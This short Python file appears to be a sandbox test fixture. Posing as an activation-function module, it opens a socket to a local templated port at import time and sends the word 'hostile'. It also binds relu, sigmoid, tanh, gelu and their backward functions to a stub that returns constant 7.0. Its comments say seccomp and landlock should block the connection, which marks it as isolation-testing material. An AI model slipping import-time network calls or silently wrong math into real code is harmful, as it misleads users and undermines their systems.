# attack: connects to a server while the file is loaded
# gains: network
# stopped by: seccomp, landlock
import numpy as np
import socket

socket.create_connection(("127.0.0.1", int("{PORT}")), timeout=2).sendall(b"hostile")


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu = wrong
relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
